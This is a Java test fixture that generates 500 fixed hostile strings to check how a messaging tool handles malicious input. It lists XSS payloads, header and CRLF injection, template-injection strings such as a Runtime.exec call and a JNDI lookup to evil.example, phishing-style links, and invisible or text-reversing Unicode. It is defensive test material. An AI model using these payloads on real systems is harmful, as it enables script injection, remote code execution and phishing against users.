package dev.headsup.authoring.message;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// 500 values that somebody might send to break a message, always the same (reliability test S3):
/// HTML, attributes, addresses, CSS, headers, templates, Markdown, letters that turn text around or
/// cannot be seen, letters that make a text message dear.
final class Hostile {
  /// A word that no message of ours says.
  static final String MARK = "evil";

  private static final List<String> BY_HAND =
      List.of(
          // HTML and scripts.
          "<script>alert('evil')</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<img src=x onerror=alert('evil')>",
          "<svg/onload=alert('evil')>",
          "<svg><script>alert&#40;1&#41;</script></svg>",
          "<iframe srcdoc='<script>evil()</script>'>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
          "<a href=\"javascript:evil()\">x</a>",
          "<form action=https://evil.example><input name=p></form>",
          "<meta http-equiv=refresh content='0;url=https://evil.example'>",
          "<base href=https://evil.example/>",
          "<object data=evil.swf></object>",
          "<style>@import 'https://evil.example/x.css'</style>",
          "<!--<img src=\"--><img src=x onerror=evil()//\">",
          "<![CDATA[<script>evil()</script>]]>",
          "</td></tr></table></body></html><script>evil()</script>",
          "<noscript><p title=\"</noscript><img src=x onerror=evil()>\">",
          "&lt;script&gt;evil()&lt;/script&gt;",
          "&#60;script&#62;evil()&#60;/script&#62;",
          "&#x3c;script&#x3e;evil()&#x3c;/script&#x3e;",
          "\\u003cscript\\u003eevil()\\u003c/script\\u003e",
          "\uff1cscript\uff1eevil()\uff1c/script\uff1e",
          "<scr\u0000ipt>evil()</scr\u0000ipt>",
          // Attributes.
          "\" onmouseover=\"evil()",
          "' onfocus='evil()' autofocus='",
          "` onclick=`evil()",
          "\"><script>evil()</script>",
          "x\" style=\"background:url(https://evil.example)",
          "\" formaction=\"https://evil.example\" x=\"",
          "=evil()",
          // CSS.
          "}</style><script>evil()</script>",
          "expression(evil())",
          "background:url(javascript:evil())",
          "*/body{display:none}/*",
          // Addresses and links.
          "https://evil.example/login",
          "http://evil.example",
          "HTTPS://EVIL.EXAMPLE",
          "//evil.example/x",
          "\\\\evil.example\\x",
          "www.evil.example",
          "evil.com",
          "see evil.com for more",
          "evil.co.uk/pay",
          "user@evil.com",
          "pay.evil.com now",
          "mailto:user@evil.com",
          "tel:+19005550123",
          "sms:+19005550123",
          "+1 900 555 0123 evil",
          "javascript:evil()",
          "data:text/html,<script>evil()</script>",
          "vbscript:evil()",
          "file:///etc/evil",
          "ftp://evil.example",
          "h\u200bttps://evil.example",
          "https\uff1a\uff0f\uff0fevil.example",
          "evil\uff0ecom",
          "evil\u3002com",
          "evil\u00ad.com",
          "evil.\u0440\u0444",
          "xn--evil-q5a.com",
          "https://docs.example.com@evil.example/",
          "https://evil.example#docs.example.com",
          "?x=1&y=2#evil",
          "../../evil",
          "%2e%2e%2fevil",
          "%0d%0aSet-Cookie:evil=1",
          // Header lines.
          "evil\r\nBcc: all at once",
          "evil\nX-Evil: 1",
          "evil\rX-Evil: 1",
          "evil\r\n\r\n<html>body</html>",
          "evil\u2028X-Evil: 1",
          "evil\u2029X-Evil: 1",
          "evil\u0085X-Evil: 1",
          "evil\u000bX-Evil: 1",
          "evil\u000cX-Evil: 1",
          "=?utf-8?Q?evil=0D=0ABcc:_x?=",
          "evil\u0000zero",
          // Templates.
          "{{ evil }}",
          "{{ customer.email }}",
          "{{ 7 | times: 7 }} evil",
          "{{7*7}} evil",
          "${7*7} evil",
          "#{7*7} evil",
          "<%= 7*7 %> evil",
          "{% include 'evil' %}",
          "{% raw %}evil{% endraw %}",
          "{% assign x = 'evil' %}{{ x }}",
          "{%- for i in (1..99999999) -%}evil{%- endfor -%}",
          "{{ 'evil' | append: constructor }}",
          "{{constructor.constructor('evil()')()}}",
          "[[${T(java.lang.Runtime).getRuntime().exec('evil')}]]",
          "${jndi:ldap://evil.example/a}",
          "%{(#evil=1)}",
          "}} evil {{",
          "%} evil {%",
          // Markdown.
          "[evil](https://evil.example)",
          "[evil](javascript:alert)",
          "![evil](https://evil.example/x.png)",
          "[evil]: https://evil.example",
          "<https://evil.example>",
          "# evil",
          "- evil\n- evil",
          "1. evil",
          "> evil",
          "```evil\n```",
          "`evil`",
          "**evil** _evil_ ~~evil~~",
          "***",
          "| evil | evil |\n|---|---|",
          "evil\\",
          "evil  \nevil",
          "\\<evil>",
          // What turns text around, or nobody sees.
          "\u202eevil\u202c",
          "\u2066evil\u2069",
          "\u200eevil\u200f",
          "evil\ufeff",
          "e\u200bv\u200bi\u200bl",
          "evil\u2060\u2061\u2062",
          "evil\ue000\ue001",
          "evil\udb40\udc41",
          "evil\ud83d",
          "\udc00evil",
          "evi\u0301\u0301\u0301\u0301\u0301\u0301\u0301l",
          // What makes a text message dear.
          "\ud83d\ude08".repeat(100) + "evil",
          "\u20ac^{}[]~|\\".repeat(20) + "evil",
          "\u0416".repeat(200) + "evil",
          "\u4e2d".repeat(200) + "evil",
          "evil".repeat(200),
          "evil ".repeat(2_000),
          "\u0141\u00f3d\u017a evil");

  private static final String PIECES =
      "<>\"'`=/\\&;:#%{}[]()|*_~-+!?@$^., \n\r"
          + "\t\u202e\u2066\u200b\u00ad\ue000\u2028\u20ac\u0142\u4e2d";

  private Hostile() {}

  /// All of them: those written by hand, and as many made of dangerous pieces as are missing.
  static List<String> values() {
    List<String> all = new ArrayList<>(BY_HAND);
    Random random = new Random(20_261_122);
    while (all.size() < 500) {
      StringBuilder value = new StringBuilder();
      for (int i = random.nextInt(3, 30); i > 0; i--) {
        value.append(
            switch (random.nextInt(4)) {
              case 0 -> BY_HAND.get(random.nextInt(BY_HAND.size())).transform(Hostile::piece);
              case 1 -> MARK;
              default -> String.valueOf(PIECES.charAt(random.nextInt(PIECES.length())));
            });
      }
      all.add(value.toString());
    }
    return all;
  }

  private static String piece(String value) {
    return value.substring(0, Math.min(12, value.length()));
  }
}
